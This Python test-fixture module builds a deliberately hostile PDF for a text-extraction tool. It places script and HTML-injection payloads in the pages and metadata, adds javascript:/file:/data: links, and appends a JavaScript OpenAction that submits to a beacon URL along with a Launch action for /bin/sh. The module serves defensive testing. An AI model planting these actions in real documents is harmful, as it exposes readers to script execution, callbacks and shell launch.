"""Hostile PDFs: text payloads on the page and in the metadata, plus actions a reader must never run.

Built with reportlab. The link annotations (javascript:, file:, data: and a loopback URL), a document-level
JavaScript OpenAction and a Launch action are there to be ignored: c2e reads text, never actions.
"""

from __future__ import annotations

from pathlib import Path

from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from .payloads import Env, text_payloads, url_payloads

UNRENDERABLE = frozenset({"bidi-override"})
"""Payloads the standard Helvetica font cannot draw (U+202E), so a PDF cannot carry them as text."""


def make_payload_pdf(folder: Path, env: Env) -> Path:
    """Two pages: a heading and every text payload on its own line; hostile link rectangles below them."""
    texts, urls = text_payloads(env), url_payloads(env)
    path = folder / "payload-handout.pdf"
    pdf = canvas.Canvas(str(path), pagesize=A4, invariant=1)
    pdf.setTitle(f"{texts['script']} {texts['template']}")
    pdf.setAuthor(texts["attr-break-dq"])
    pdf.setSubject(texts["img-onerror"])
    _page(pdf, texts["svg-onload"], list(texts.values())[:9])
    _page(pdf, texts["template"], list(texts.values())[9:])
    y = 200
    for name, url in urls.items():
        pdf.drawString(72, y, f"link {name}")
        pdf.linkURL(url, (72, y - 2, 300, y + 10), relative=0)
        y -= 12
    pdf.showPage()
    pdf.save()
    _add_actions(path, env)
    return path


def _page(pdf: canvas.Canvas, heading: str, lines: list[str]) -> None:
    pdf.setFont("Helvetica-Bold", 20)
    pdf.drawString(72, 770, heading)
    pdf.setFont("Helvetica", 11)
    for index, line in enumerate(lines):
        pdf.drawString(72, 730 - 18 * index, line)
    pdf.showPage()
    pdf.setFont("Helvetica", 11)


def _add_actions(path: Path, env: Env) -> None:
    """Append an incremental update: the catalog gains a JavaScript OpenAction and a Launch action."""
    data = path.read_bytes()
    previous = int(data.rsplit(b"startxref", 1)[1].split()[0])
    root = int(data.split(b"/Root ", 1)[1].split()[0])
    size = int(data.rsplit(b"/Size ", 1)[1].split()[0])
    catalog = data.split(f"\n{root} 0 obj".encode(), 1)[1].split(b"endobj", 1)[0].strip().removesuffix(b">>")
    script = f"app.alert(1); this.submitForm('{env.beacon}/pdf-js');"
    objects = [
        (root, catalog + f" /OpenAction {size} 0 R /AA << /WC {size + 1} 0 R >> >>".encode()),
        (size, f"<< /S /JavaScript /JS ({script}) >>".encode()),
        (size + 1, b"<< /S /Launch /F (/bin/sh) >>"),
    ]
    body, offsets = b"", []
    for number, content in objects:
        offsets.append((number, len(data) + len(body) + 1))
        body += f"\n{number} 0 obj\n".encode() + content + b"\nendobj"
    body += b"\n"
    table = b"xref\n" + b"".join(f"{number} 1\n{offset:010d} 00000 n \n".encode() for number, offset in offsets)
    trailer = (f"trailer\n<< /Size {size + 2} /Root {root} 0 R /Prev {previous} >>\n"
               f"startxref\n{len(data) + len(body)}\n%%EOF\n").encode()
    path.write_bytes(data + body + table + trailer)
